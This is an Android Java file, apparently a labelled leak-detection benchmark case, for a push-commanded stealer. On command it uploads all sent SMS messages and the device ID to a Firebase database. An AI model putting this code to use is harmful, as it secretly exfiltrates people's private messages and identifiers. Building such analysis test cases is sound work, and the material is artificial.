package stealers;

import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.provider.*;

import androidx.core.app.JobIntentService;

import com.google.firebase.database.*;
import com.google.firebase.messaging.*;

import java.util.*;

/** Orders that are pushed; the answers stand in somebody's database. */
public class Pushed extends FirebaseMessagingService {
    @Override
    public void onMessageReceived(RemoteMessage m) {
        Map<String, String> d = m.getData();
        if (d.containsKey("cmd")) {
            Intent i = new Intent(this, Work.class);
            i.putExtra("cmd", d.get("cmd"));
            JobIntentService.enqueueWork(this, Work.class, 10, i);
        }
    }

    @Override
    public void onNewToken(String token) {
        FirebaseDatabase.getInstance().getReference("bots").child("state").setValue("up"); // no leak
    }

    public static class Row {
        public String address, body;

        public Row() {}

        Row(String a, String b) {
            address = a;
            body = b;
        }
    }

    public static class Work extends JobIntentService {
        @Override
        protected void onHandleWork(Intent i) {
            DatabaseReference root = FirebaseDatabase.getInstance().getReference();
            String cmd = i.getStringExtra("cmd");
            if (cmd.equals("sms")) {
                List<Row> all = new ArrayList<>();
                try (Cursor c = getContentResolver().query(Uri.parse("content://sms/sent"), new String[] {"address", "body"}, null, null, null)) {
                    while (c.moveToNext()) all.add(new Row(c.getString(0), c.getString(1)));
                }
                root.child("sms").push().setValue(all); // leak
            } else if (cmd.startsWith("id")) {
                Map<String, Object> update = new HashMap<>();
                update.put("id", Settings.Secure.getString(getContentResolver(), "android_id"));
                update.put("on", true);
                root.child("ids").updateChildren(update); // leak
            } else {
                Map<String, Object> update = new HashMap<>();
                update.put("error", "unknown " + cmd);
                root.updateChildren(update); // no leak
            }
        }
    }
}
